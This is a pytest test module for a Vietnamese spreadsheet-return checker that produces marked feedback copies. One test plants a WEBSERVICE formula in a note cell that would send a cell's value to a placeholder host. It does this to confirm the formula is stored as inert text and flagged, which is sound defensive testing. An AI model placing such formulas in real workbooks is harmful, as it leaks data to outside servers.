"""Feedback copies as the sender opens them: the "Phản hồi" sheet first, their values, the bad cells
marked, their own comments kept, nothing of theirs that runs."""

from __future__ import annotations

import datetime as dt
import random
import subprocess
from pathlib import Path

import openpyxl
import pytest
from openpyxl.comments import Comment

from toolkit.collect.feedback import FEEDBACK_SHEET
from toolkit.collect.folder import collect
from toolkit.collect.report import write_check_reports
from toolkit.forms.samples import fill_workbook, sample_values
from toolkit.forms.writer import write_template

UNIT = "XA_GIA_PHU"
TODAY = dt.date(2022, 12, 15)
# Values breaking a check (more children in class than live in the commune) and one typed as text.
CHANGES = {"RL_0_2": 100000, "XMC_SO_NGUOI": " 12 "}


def filled_return(plan, roster, folder: Path, name: str = f"{UNIT}.xlsx") -> Path:
    template = write_template(plan, roster, roster.get(UNIT), folder / "template" / f"{UNIT}.xlsx")
    values = {**sample_values(plan, roster.get(UNIT), random.Random(3)), **CHANGES}
    return fill_workbook(template, values, folder / "filled" / name)


def check_folder(plan, roster, returns: Path, output: Path):
    collection = collect(plan, roster, returns)
    write_check_reports(plan, roster, collection, output, today=TODAY, workers=1)
    issues = [i for i in collection.issues if i.unit == UNIT]
    return issues, output / "phan_hoi" / f"{UNIT}.xlsx"


def cell_of(book, name: str):
    (sheet, address), = book.defined_names[name].destinations
    return book[sheet][address.replace("$", "")]


def feedback_lines(book) -> list[list]:
    """The problem lines of the Phản hồi sheet, below its header row."""
    rows = [[c.value for c in row] for row in book[FEEDBACK_SHEET].iter_rows()]
    header = rows.index(["STT", "Trang", "Ô", "Vấn đề cần sửa", "Mức độ"])
    return rows[header + 1:]


def assert_feedback_sheet(book, issues, unit_name: str) -> None:
    sheet = book[FEEDBACK_SHEET]
    assert book.sheetnames[0] == FEEDBACK_SHEET and book.active.title == FEEDBACK_SHEET
    assert [s.title for s in book.worksheets if s.sheet_view.tabSelected] == [FEEDBACK_SHEET]
    heading = "\n".join(str(row[0].value) for row in sheet.iter_rows(max_row=5))
    assert f"Đơn vị: {unit_name} (mã {UNIT})" in heading and "năm 2022" in heading and "trước ngày 10/12/2022" in heading
    lines = feedback_lines(book)
    assert [line[1:4] for line in lines[:len(issues)]] == [[i.sheet, i.cell, i.message] for i in issues]
    assert {line[4] for line in lines} <= {"Lỗi, phải sửa", "Cần xem lại"}
    assert not any("RL_0_2" in str(value) for line in lines for value in line)  # no technical codes
    header = next(r for r in sheet.iter_rows() if r[0].value == "STT")[0].row
    links = [sheet.cell(header + n, 3).hyperlink.location for n in range(1, len(issues) + 1)]
    assert links == [f"'{i.sheet}'!{i.cell}" for i in issues]


def test_an_xlsx_return_gets_its_own_file_with_a_feedback_sheet_and_its_comments_kept(plan, roster, tmp_path):
    source = filled_return(plan, roster, tmp_path)
    book = openpyxl.load_workbook(source)
    cell_of(book, "RL_0_2").comment = Comment("Số liệu theo điều tra tháng 9", "Cô Lan")
    note_row = cell_of(book, "XMC_SO_NGUOI").row
    note = book["Số liệu"].cell(note_row, 8)  # the row's Ghi chú: unlocked, so the clerk could type this
    note.value = "=WEBSERVICE(\"http://example.invalid/?\"&E9)"
    book.save(tmp_path / "returns.xlsx")
    (tmp_path / "returns").mkdir()
    (tmp_path / "returns.xlsx").rename(tmp_path / "returns" / f"{UNIT}.xlsx")

    issues, copy = check_folder(plan, roster, tmp_path / "returns", tmp_path / "output")
    assert {i.code for i in issues} == {"check-broken", "number-as-text"}
    marked = openpyxl.load_workbook(copy)
    assert_feedback_sheet(marked, issues, "UBND xã Gia Phú")
    broken = cell_of(marked, "RL_0_2")
    assert broken.value == 100000 and broken.fill.fgColor.rgb == "FFFF7C80"
    check_broken = next(i for i in issues if i.code == "check-broken")
    assert broken.comment.text == f"Số liệu theo điều tra tháng 9\n\n— Kiểm tra: {check_broken.message}"
    assert cell_of(marked, "XMC_SO_NGUOI").fill.fgColor.rgb == "FFFFEB9C"  # a warning, in yellow
    # The formula the clerk typed is kept as text, marked and listed; the template's own are formulas still.
    neutral = marked["Số liệu"].cell(note_row, 8)
    assert (neutral.value, neutral.data_type) == ("=WEBSERVICE(\"http://example.invalid/?\"&E9)", "s")
    assert "công thức" in neutral.comment.text
    assert [line[1:3] for line in feedback_lines(marked)][-1] == ["Số liệu", neutral.coordinate]
    assert marked["Số liệu"]["B4"].data_type == "f"


def test_a_return_openpyxl_cannot_rewrite_gets_a_fresh_copy(plan, roster, tmp_path, monkeypatch):
    filled_return(plan, roster, tmp_path).rename(tmp_path / "returns.xlsx")
    (tmp_path / "returns").mkdir()
    (tmp_path / "returns.xlsx").rename(tmp_path / "returns" / f"{UNIT}.xlsx")

    def unreadable(*args, **kwargs):  # what openpyxl raises on parts it cannot parse
        raise ValueError("Unable to read workbook: could not read worksheets")

    monkeypatch.setattr("toolkit.collect.feedback._mark_own", unreadable)
    issues, copy = check_folder(plan, roster, tmp_path / "returns", tmp_path / "output")
    fresh = openpyxl.load_workbook(copy)
    assert_feedback_sheet(fresh, issues, "UBND xã Gia Phú")
    assert cell_of(fresh, "RL_0_2").value == 100000 and cell_of(fresh, "RL_0_2").fill.fgColor.rgb == "FFFF7C80"


@pytest.mark.libreoffice
@pytest.mark.parametrize("kind", ["ods", "xls"])
def test_an_ods_or_xls_return_gets_its_values_in_a_fresh_template(soffice, lo_profile, plan, roster, tmp_path, kind):
    source = filled_return(plan, roster, tmp_path)
    subprocess.run([soffice, "--headless", "--norestore", f"-env:UserInstallation={lo_profile.as_uri()}",
                    "--convert-to", kind, "--outdir", str(tmp_path / "returns"), str(source)],
                   check=True, capture_output=True, timeout=180)
    issues, copy = check_folder(plan, roster, tmp_path / "returns", tmp_path / "output")
    assert {i.code for i in issues} == {"check-broken", "number-as-text"}
    fresh = openpyxl.load_workbook(copy)
    assert_feedback_sheet(fresh, issues, "UBND xã Gia Phú")
    assert "không sửa trực tiếp được" in fresh[FEEDBACK_SHEET]["A4"].value
    typed = {**sample_values(plan, roster.get(UNIT), random.Random(3)), **CHANGES}
    assert {name: cell_of(fresh, name).value for name in typed} == typed
    assert cell_of(fresh, "RL_0_2").fill.fgColor.rgb == "FFFF7C80"
    # Still a working template: protected, with the unit's identity and its self-check.
    assert fresh["Số liệu"].protection.sheet and fresh["Số liệu"]["B4"].data_type == "f"


def test_a_return_too_big_to_rewrite_cheaply_gets_a_fresh_copy(plan, roster, tmp_path, monkeypatch):
    filled_return(plan, roster, tmp_path).rename(tmp_path / "returns.xlsx")
    (tmp_path / "returns").mkdir()
    (tmp_path / "returns.xlsx").rename(tmp_path / "returns" / f"{UNIT}.xlsx")
    monkeypatch.setattr("toolkit.collect.feedback.REWRITE_LIMIT", 1000)  # bytes: every return is "huge"
    issues, copy = check_folder(plan, roster, tmp_path / "returns", tmp_path / "output")
    fresh = openpyxl.load_workbook(copy)
    assert "không sửa trực tiếp được" in fresh[FEEDBACK_SHEET]["A4"].value
    assert cell_of(fresh, "RL_0_2").value == 100000 and cell_of(fresh, "RL_0_2").fill.fgColor.rgb == "FFFF7C80"


def test_many_feedback_copies_are_written_by_the_worker_pool(plan, roster, tmp_path, monkeypatch):
    units = ["XA_GIA_PHU", "XA_BAN_CAM", "XA_SON_HA"]
    for code in units:
        template = write_template(plan, roster, roster.get(code), tmp_path / "template" / f"{code}.xlsx")
        values = {**sample_values(plan, roster.get(code), random.Random(3)), "RL_0_2": 100000}
        fill_workbook(template, values, tmp_path / "returns" / f"{code}.xlsx")
    monkeypatch.setattr("toolkit.collect.feedback.SMALL_BATCH", 2)
    collection = collect(plan, roster, tmp_path / "returns")
    paths = write_check_reports(plan, roster, collection, tmp_path / "output", today=TODAY, workers=2)
    assert sorted(p.name for p in paths if p.parent.name == "phan_hoi") == sorted(f"{code}.xlsx" for code in units)
    for code in units:
        book = openpyxl.load_workbook(tmp_path / "output" / "phan_hoi" / f"{code}.xlsx")
        assert book.active.title == FEEDBACK_SHEET and cell_of(book, "RL_0_2").fill.fgColor.rgb == "FFFF7C80"
